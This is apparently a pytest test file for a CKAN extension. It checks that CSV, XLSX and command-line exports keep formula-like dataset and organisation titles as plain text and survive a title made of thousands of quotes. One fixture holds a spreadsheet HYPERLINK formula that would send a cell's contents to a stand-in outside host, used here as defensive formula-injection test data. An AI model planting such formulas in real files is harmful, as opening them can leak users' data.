"""Every CSV and XLSX the extension writes keeps text as text: a dataset or
organization titled like a spreadsheet formula is exported as that text
(CSV: with a leading '; XLSX: a string cell), numbers stay numbers."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from ckan.cli.cli import ckan
from ckan.tests import factories, helpers

from ckanext.opdc_kpi.excel.workbook import read_workbook
from ckanext.opdc_kpi.excel.writer import write_workbook
from ckanext.opdc_kpi.logic import workbooks

from .export_support import read_csv, read_xlsx
from .factories_dga import dga_dataset_dict

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db")

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
PHONE = "+66 2 123 4567"


@pytest.fixture
def hostile():
    sysadmin = factories.SysadminWithToken()
    org = factories.Organization(title=FORMULA, focus_areas=["tourism"],
                                 catalog_url="https://c.example.go.th")
    factories.Dataset(**dga_dataset_dict(owner_org=org["id"], name="formula-title",
                                         title=FORMULA, mission="ภารกิจ",
                                         work_process="กระบวนการ"))
    factories.Dataset(**dga_dataset_dict(owner_org=org["id"], name="phone-title", title=PHONE))
    return {"org": org, "sysadmin": sysadmin}


def _get(app, url, user):
    response = app.get(url, headers={"Authorization": user["token"]})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return read_csv(data)[1]


def _xlsx_cells(data: bytes, title_column: int) -> dict:
    return {row[title_column].value: row[title_column].data_type
            for row in read_xlsx(data)[2]}


def test_organization_page_exports(app, hostile):
    url = f"/organization/{hostile['org']['name']}/kpi?year=2565&format="
    rows = _csv_rows(_get(app, url + "csv", hostile["sysadmin"]).data)
    titles = {r["URL name"]: r["Dataset"] for r in rows}
    assert titles == {"formula-title": "'" + FORMULA, "phone-title": "'" + PHONE}
    cells = _xlsx_cells(_get(app, url + "xlsx", hostile["sysadmin"]).data, 1)
    assert cells[FORMULA] == "s" and cells[PHONE] == "s"
    book = openpyxl.load_workbook(io.BytesIO(_get(app, url + "xlsx", hostile["sysadmin"]).data))
    assert not [c for row in book.active.iter_rows() for c in row if c.data_type == "f"]


def test_admin_page_exports(app, hostile):
    url = "/ckan-admin/opdc-kpi?year=2565&format="
    rows = _csv_rows(_get(app, url + "csv", hostile["sysadmin"]).data)
    row = next(r for r in rows if r["URL name"] == hostile["org"]["name"])
    assert row["Organization"] == "'" + FORMULA
    assert not row["Score (of 100)"].startswith("'")          # a number stays a number
    (org_row,) = [r for r in read_xlsx(_get(app, url + "xlsx", hostile["sysadmin"]).data)[2]
                  if r[0].value == hostile["org"]["name"]]
    assert (org_row[1].value, org_row[1].data_type) == (FORMULA, "s")
    assert org_row[2].data_type == "n"                # the score is a number cell


def test_template_2_3_export_keeps_the_title_text_and_imports_it_back(tmp_path, hostile):
    context = {"user": hostile["sysadmin"]["name"], "ignore_auth": False}
    path = tmp_path / "export.xlsx"
    write_workbook(workbooks.export_datasets(context, hostile["org"]["name"]), path)
    sheet = openpyxl.load_workbook(path)["Temp2_Meta_Stat"]
    titles = {row[0].value: row for row in sheet.iter_rows(min_row=6)}
    title_cells = [c for c in titles["formula-title"] if c.value == FORMULA]
    assert title_cells and all(c.data_type == "s" for c in title_cells)
    assert not [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    helpers.call_action("dataset_purge", context, id="formula-title")
    workbooks.import_workbook(context, read_workbook(path), org=hostile["org"]["name"])
    assert helpers.call_action("package_show", id="formula-title")["title"] == FORMULA


def test_cli_csv_output(cli, hostile):
    result = cli.invoke(ckan, ["opdc-kpi", "score", "--year", "2565", "--format", "csv"])
    assert result.exit_code == 0, result.output
    text = result.output
    rows = list(csv.DictReader(io.StringIO(text[text.index("organization,"):])))
    row = next(r for r in rows if r["organization"] == hostile["org"]["name"])
    assert row["title"] == "'" + FORMULA


QUOTED = "'" * 5000 + FORMULA     # a recursive guard ran out of stack at ~1,000 quotes


def test_a_title_of_thousands_of_quotes_exports_everywhere(app, cli):
    """The organization page's CSV, the national admin CSV and the CLI's:
    one organization admin's title must not break the country's export. The
    dataset's title is one stored before the 500-character limit (written to
    its row, then the stored figures and the index rebuilt, as after an
    upgrade): a form or the API now refuses it."""
    import ckan.model as model
    from ckan.lib import search

    from ckanext.opdc_kpi.logic.score import rebuild_figures

    sysadmin = factories.SysadminWithToken()
    org = factories.Organization(title=QUOTED, focus_areas=["tourism"])
    dataset = factories.Dataset(**dga_dataset_dict(owner_org=org["id"], name="quoted-title",
                                                   mission="ภารกิจ", work_process="กระบวนการ"))
    model.Package.get(dataset["id"]).title = QUOTED
    model.Session.commit()
    search.rebuild(dataset["id"])
    model.Session.commit()
    rebuild_figures()
    rows = _csv_rows(_get(app, f"/organization/{org['name']}/kpi?year=2565&format=csv",
                          sysadmin).data)
    assert {r["URL name"]: r["Dataset"] for r in rows} == {"quoted-title": "'" + QUOTED}
    rows = _csv_rows(_get(app, "/ckan-admin/opdc-kpi?year=2565&format=csv", sysadmin).data)
    assert next(r for r in rows if r["URL name"] == org["name"])["Organization"] == "'" + QUOTED
    result = cli.invoke(ckan, ["opdc-kpi", "score", "--year", "2565", "--format", "csv"])
    assert result.exit_code == 0, result.output[-500:]
    text = result.output
    rows = list(csv.DictReader(io.StringIO(text[text.index("organization,"):])))
    assert next(r for r in rows if r["organization"] == org["name"])["title"] == "'" + QUOTED
